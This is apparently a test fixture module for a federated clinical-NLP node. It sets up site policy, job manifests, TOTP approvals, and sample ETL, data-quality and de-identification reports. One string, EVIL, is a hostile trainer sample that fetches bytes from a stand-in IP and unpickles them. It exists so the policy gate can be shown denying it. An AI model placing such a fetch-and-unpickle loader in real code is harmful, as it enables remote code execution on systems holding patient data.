"""A real site on a temp FEDNODE_HOME for the dashboard tests (not a test module).

Everything is the real thing: the example site policy (adjusted), state.db with the job registry, audit log and
ledger opened through ``node.site.desk.SiteDesk``, verdicts from the real policy engine, TOTP secrets enrolled
with the real verifier. Only the clock is pinned (``FixedClock``) so screenshots and TOTP codes are stable.
"""

from __future__ import annotations

import hashlib
import json
import os
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pyotp
import yaml

from fednode.settings import Settings
from node.site.desk import SiteDesk
from omop_etl.cdm import Base as CdmBase
from omop_etl.db import make_engine
from policies.contracts import (
    DpParams,
    EgressDecision,
    JobKind,
    JobManifest,
    JobRecord,
    ManifestFile,
    RoundReport,
)
from policies.manifest import files_digest
from policies.verdicts import SiteState, evaluate

REPO = Path(__file__).resolve().parents[2]
EXAMPLE_POLICY = REPO / "policies" / "examples" / "site-policy.yaml"
T0 = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)
APPROVERS = ("dr.hansen", "dr.larsen", "privacy.officer")
SUBMITTER = "lead@karolinska.example / Karolinska Institutet"

TRAINER = '''"""Built-in NER trainer configuration (reviewed)."""

import torch


def run(config):
    """Train the site's NER model with DP-SGD."""
    model = torch.nn.Linear(config["features"], 3)
    for epoch in range(config["epochs"]):
        model.weight.data.mul_(0.5**epoch)
    return model
'''
"""Passes the site's allow-list scan (torch only), so a config-only job's verdict allows it."""

EVIL = """import pickle
import urllib.request


def run(config):
    data = urllib.request.urlopen("http://203.0.113.9/x").read()
    return pickle.loads(data)
"""


class FixedClock:
    """A clock that stands still unless moved (``advance``); aware UTC."""

    def __init__(self, start: datetime = T0) -> None:
        self.now = start

    def __call__(self) -> datetime:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += timedelta(seconds=seconds)


def write_policy(
    home: Path,
    *,
    required_approvals: int = 2,
    totp_required: bool = True,
    identity: str = "name",
    keys: dict[str, str] | None = None,
) -> Path:
    """The example site policy with this test's site, budget, data access and approval rules (``identity:
    name`` unless a test enrols approvers' ``keys``)."""
    policy: dict[str, Any] = yaml.safe_load(EXAMPLE_POLICY.read_text(encoding="utf-8"))
    policy["site"]["name"] = "site-oslo"
    policy["privacy"]["budgets"] = {"omop_notes": 8.0}
    policy["data_access"] = {"note": ["note_id", "note_text"], "note_nlp": ["note_id", "offset", "lexical_variant"]}
    policy["jobs"]["kinds"] = ["config_only"]
    policy["approval"] = {
        "approvers": list(APPROVERS),
        "required_approvals": required_approvals,
        "totp_required": totp_required,
        "identity": identity,
        "keys": keys or {},
    }
    path = home / "policy.yaml"
    path.write_text(yaml.safe_dump(policy, sort_keys=False), encoding="utf-8")
    return path


def manifest(
    job_id: str,
    *,
    study: str = "ner-disease",
    files: dict[str, str] | None = None,
    kind: JobKind = JobKind.CONFIG_ONLY,
    submitted_at: datetime = T0,
    rounds: int = 20,
) -> JobManifest:
    """A job's manifest with real file hashes and the real app digest."""
    contents = (
        files
        if files is not None
        else {"config/config_fed_client.json": '{"format_version": 2}\n', "custom/trainer_config.py": TRAINER}
    )
    entries = tuple(
        ManifestFile(path, hashlib.sha256(text.encode()).hexdigest(), len(text.encode()), text)
        for path, text in sorted(contents.items())
    )
    return JobManifest(
        job_id=job_id,
        study=study,
        app_name="app",
        digest=files_digest(entries),
        files=entries,
        kind=kind,
        submitter=SUBMITTER,
        submitted_at=submitted_at,
        algorithm="fedavg",
        rounds=rounds,
        min_clients=3,
        sites=("site-oslo", "site-ki", "site-tartu"),
        data_access={"note": ("note_id", "note_text"), "note_nlp": ("note_id", "offset", "lexical_variant")},
        dp=DpParams(noise_multiplier=1.0, max_grad_norm=1.0, target_epsilon=2.0, delta=1e-5),
        dataset="omop_notes",
        pinned_meta={"min_clients": 3},
    )


@dataclass
class Site:
    """A site home with its settings, desk and clock."""

    home: Path
    settings: Settings
    desk: SiteDesk
    clock: FixedClock

    def register(self, m: JobManifest) -> JobRecord:
        """What the gate does at check_resources: judge the job under the site policy and record it pending."""
        policy = self.desk.state.policy
        assert policy is not None
        budget = self.desk.state.ledger.summary(m.dataset).remaining_epsilon
        state = SiteState(policy, now=self.clock(), budget_remaining={m.dataset: budget}, local_records=5000)
        return self.desk.state.jobs.register_pending(m, evaluate(m, state))

    def enroll(self, approver: str) -> str:
        """Enrol ``approver`` for TOTP; returns the secret."""
        return self.desk.state.totp.enroll(approver, site="site-oslo").secret

    def code(self, secret: str) -> str:
        """The TOTP code valid now (on the site clock)."""
        return pyotp.TOTP(secret).at(self.clock())

    def events(self, job_id: str) -> list[str]:
        """Audit event tags recorded for the job, oldest first."""
        return [r.event for r in self.desk.state.audit.records(job_id=job_id)]


def open_site(
    home: Path,
    *,
    required_approvals: int = 2,
    totp_required: bool = True,
    identity: str = "name",
    keys: dict[str, str] | None = None,
) -> Site:
    """Write the policy and open the real desk on ``home``."""
    write_policy(home, required_approvals=required_approvals, totp_required=totp_required, identity=identity, keys=keys)
    settings = Settings(home=home)
    clock = FixedClock()
    return Site(home, settings, SiteDesk.from_settings(settings, clock=clock), clock)


TRAINER_V2 = TRAINER.replace('range(config["epochs"])', 'range(config["epochs"] + 1)').replace(
    "    return model\n", "    torch.nn.utils.clip_grad_norm_(model.parameters(), max_norm=1.0)\n    return model\n"
)

DQ_REPORT = {
    "ok": False,
    "summary": {"pass": 41, "fail": 1, "not_applicable": 6, "accepted": 1},
    "failed": [
        {
            "check": "plausibleValueLow",
            "level": "field",
            "table": "person",
            "field": "year_of_birth",
            "violated": 3,
            "denominator": 1200,
            "pct_violated": 0.025,
            "threshold": 0.01,
            "status": "fail",
        }
    ],
    "checks": [{"check": f"check{i}", "status": "pass"} for i in range(47)],
}
DQ_REPORT["checks"].append(  # an explained failure the steward accepted (``fednode dq --accept``)
    {
        "check": "plausibleValueHigh",
        "level": "field",
        "table": "measurement",
        "field": "value_as_number",
        "concept_id": "3004410",
        "violated": 2,
        "denominator": 620,
        "pct_violated": 0.32,
        "threshold": 0.1,
        "status": "accepted",
        "note": "lab reports HbA1c in mmol/mol",
    }
)
DEID_REPORT = {  # what `fednode deid run` writes (node.site.notes)
    "ok": True,
    "operator": "surrogate",
    "deid": {
        "read": 5400,
        "deidentified": 5398,
        "quarantined": {"note_too_large": 2},
        "phi": {"PERSON": 3012, "DATE": 1187, "NATIONAL_ID": 41},
        "annotations_kept": 0,
        "annotations_dropped_overlapping_phi": 0,
    },
    "load": {"inserted": 5398, "updated": 0, "unchanged": 0, "nlp_rows": 0, "quarantined": {}},
    "loaded": 5398,
    "quarantined": 2,
    "quarantine_file": None,
    "seconds": 812.4,
}
ETL_REPORT = {  # what `fednode etl --source` writes (omop_etl.synthea.run), cut to the person table
    "ok": True,
    "source": "synthea-sample",
    "started_at": "2026-11-27T11:40:00+00:00",
    "seconds": 3.2,
    "changed_total": 1200,
    "changes": {"person": {"inserted": 1200, "updated": 0, "deleted": 0, "unchanged": 0}},
    "rows": {"person": 1200},
    "quarantined": {"person": {"birthdate_missing": 3}},
    "quarantined_total": 3,
    "unmapped": {"condition_occurrence": {"codes": {"SNOMED:15777000": 5}, "records": 5}},
}


def populate(site: Site) -> None:
    """A site with history: a study approved and training, its next version pending, a denied job, a rejected
    one, CDM rows, and the ETL/DQ/de-identification reports (counts only)."""
    jobs = site.desk.state.jobs
    rules = site.desk.approval_rules()
    code = {approver: site.enroll(approver) for approver in rules.approvers[: rules.required_approvals]}

    site.register(manifest("job-1"))
    for approver, secret in code.items():
        jobs.approve("job-1", approver, "protocol v1 reviewed", site.code(secret) if rules.totp_required else None)
    jobs.mark_running("job-1")
    for rnd in (1, 2, 3):
        at = site.clock()
        jobs.record_round(RoundReport("job-1", rnd, {"loss": 0.9 / rnd, "f1": 0.5 + 0.1 * rnd}, 412_000 * rnd, at))
        allowed = rnd != 2
        reason = "norm 3.9 <= 5.0; schema ok" if allowed else "egress_schema: unexpected key 'optimizer_state'"
        jobs.record_egress(EgressDecision("job-1", rnd, allowed, reason, at))
    site.clock.advance(60)
    site.register(
        manifest(
            "job-2",
            files={"config/config_fed_client.json": '{"format_version": 2}\n', "custom/trainer_config.py": TRAINER_V2},
        )
    )
    site.clock.advance(60)
    site.register(manifest("job-evil", study="ext-probe", kind=JobKind.BYOC, files={"custom/evil.py": EVIL}))
    site.clock.advance(60)
    site.register(manifest("job-3", study="cox-ph"))
    jobs.reject("job-3", "privacy.officer", "no DPIA on file for this study")

    engine = make_engine(site.settings.omop_db_url)
    CdmBase.metadata.create_all(engine)
    with engine.begin() as conn:
        conn.execute(
            CdmBase.metadata.tables["person"].insert(),
            [
                {
                    "person_id": i,
                    "gender_concept_id": 0,
                    "year_of_birth": 1940 + i % 60,
                    "race_concept_id": 0,
                    "ethnicity_concept_id": 0,
                }
                for i in range(1, 1201)
            ],
        )
    engine.dispose()
    reports = site.home / "reports"
    reports.mkdir()
    (reports / "dq-latest.json").write_text(json.dumps(DQ_REPORT), encoding="utf-8")
    (reports / "deid-latest.json").write_text(json.dumps(DEID_REPORT), encoding="utf-8")
    (reports / "etl-latest.json").write_text(json.dumps(ETL_REPORT), encoding="utf-8")
    old = site.clock().timestamp() - 3600  # the ETL ran before `deid run`
    os.utime(reports / "etl-latest.json", (old, old))
